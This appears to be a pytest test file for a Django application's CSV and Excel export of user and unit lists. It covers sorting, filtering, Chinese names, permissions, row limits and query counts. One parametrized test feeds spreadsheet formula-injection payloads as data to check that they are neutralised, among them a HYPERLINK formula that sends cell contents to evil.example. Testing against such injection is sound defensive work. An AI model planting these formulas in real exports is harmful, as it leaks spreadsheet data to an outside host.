"""A manager exports a list as filtered and sorted on the page, to CSV or Excel."""

import csv
import io

import openpyxl
import pytest

from aftersales.accounts.tests.factories import make_user
from aftersales.core import export

PEOPLE = "/accounts/users/"
UNITS = "/organisation/units/"


def _csv(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # Excel opens UTF-8 (Chinese) correctly
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx(response) -> list[list]:  # type: ignore[no-untyped-def]
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def test_units_export_to_csv_with_chinese_names_and_a_dated_file_name(client, network):
    client.force_login(make_user("administrator", network.hq, preferred_language="en"))
    response = client.get(UNITS, {"export": "csv", "sort": "name"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="units-' in response["Content-Disposition"]
    rows = _csv(response)
    assert rows[0][:3] == ["Name", "Code", "Kind"]
    assert [row[0] for row in rows[1:]] == sorted(
        ["总部", "华东大区", "上海服务中心", "浦东网点", "Точка «Б»"]
    )


def test_people_export_to_excel_as_filtered_and_sorted_on_the_page(client, network):
    admin = make_user("administrator", network.centre, preferred_language="en")
    make_user("technician", network.outlet_a, username="b-tech", first_name="明", last_name="王")
    make_user("technician", network.outlet_b, username="a-tech")
    make_user("storekeeper", network.outlet_a, username="c-store")
    client.force_login(admin)
    query = {"q": "tech", "sort": "-username"}
    page = client.get(PEOPLE, query).context["object_list"]
    response = client.get(PEOPLE, {**query, "export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = _xlsx(response)
    assert rows[0][:4] == ["Username", "Last name", "First name", "E-mail"]
    assert [row[0] for row in rows[1:]] == [person.username for person in page]
    assert [row[0] for row in rows[1:]] == ["b-tech", "a-tech"]
    assert rows[1][1:3] == ["王", "明"]
    assert rows[1][5] == network.outlet_a.name
    assert rows[1][8] == "yes"


def test_an_outlet_users_export_holds_only_their_outlet(client, network):
    make_user("technician", network.outlet_b, username="foreign-tech")
    make_user("technician", network.outlet_a, username="own-tech")
    client.force_login(make_user("administrator", network.outlet_a))
    usernames = [row[0] for row in _csv(client.get(PEOPLE, {"export": "csv"}))[1:]]
    assert "own-tech" in usernames and "foreign-tech" not in usernames
    units = [row[1] for row in _csv(client.get(UNITS, {"export": "csv"}))[1:]]
    assert units == [network.outlet_a.code]


@pytest.mark.parametrize(
    ("name", "csv_text"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "'=HYPERLINK("),
        ("+7 912 345 67 89", "'+7 912"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\tcmd", "'\tcmd"),
        ("\r=1+1", "'\r=1+1"),
        ("王 =1+1", "王 =1+1"),
    ],
)
def test_text_a_spreadsheet_would_run_as_a_formula_is_neutralised(client, network, name, csv_text):
    network.outlet_a.name = name
    network.outlet_a.save()
    client.force_login(make_user("administrator", network.outlet_a))
    [_heading, row] = _csv(client.get(UNITS, {"export": "csv"}))
    assert row[0].startswith(csv_text)
    [_heading, cells] = _xlsx(client.get(UNITS, {"export": "xlsx"}))
    # (XML reads a carriage return back as a line feed)
    assert cells[0] == export.neutralise(name).replace("\r", "\n")
    assert not str(cells[0]).startswith(("=", "+", "-", "@"))


def test_the_xlsx_cell_is_a_string_not_a_formula(client, network):
    network.outlet_a.name = "=1+1"
    network.outlet_a.save()
    client.force_login(make_user("administrator", network.outlet_a))
    response = client.get(UNITS, {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cell = workbook.active["A2"]
    assert (cell.value, cell.data_type) == ("'=1+1", "s")


def test_numbers_and_headings_are_not_mangled():
    assert export.neutralise("Name") == "Name"
    assert export._typed(-5) == -5  # a negative number stays a number
    assert export._typed(None) == ""


def test_a_list_longer_than_the_limit_is_refused_with_a_message(client, network, monkeypatch):
    monkeypatch.setattr(export, "MAX_ROWS", 3)
    client.force_login(make_user("administrator", network.hq, preferred_language="en"))
    response = client.get(UNITS, {"export": "xlsx", "kind": ""}, follow=True)
    assert response.redirect_chain[0][0].startswith(UNITS + "?")
    assert "export=" not in response.redirect_chain[0][0]
    assert "an export holds at most 3" in response.content.decode()


def test_exporting_needs_the_lists_permission(client, network):
    client.force_login(make_user("technician", network.outlet_a))
    assert client.get(PEOPLE, {"export": "csv"}).status_code == 403
    client.logout()
    response = client.get(PEOPLE, {"export": "xlsx"})
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_the_list_page_links_to_both_exports_keeping_its_filter(client, network):
    client.force_login(make_user("administrator", network.hq, preferred_language="en"))
    page = client.get(UNITS, {"kind": "outlet", "page": "1"}).content.decode()
    assert 'href="?kind=outlet&amp;export=csv"' in page
    assert 'href="?kind=outlet&amp;export=xlsx"' in page
    assert "Export Excel" in page


def test_an_exports_query_count_does_not_grow_with_its_rows(client, network):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(make_user("administrator", network.hq))

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            for export_format in ("csv", "xlsx"):
                b"".join(client.get(PEOPLE, {"export": export_format}).streaming_content)
        return len(captured)

    queries()
    few = queries()
    for number in range(20):
        make_user("technician", network.outlet_a, username=f"t{number}")
    assert queries() == few
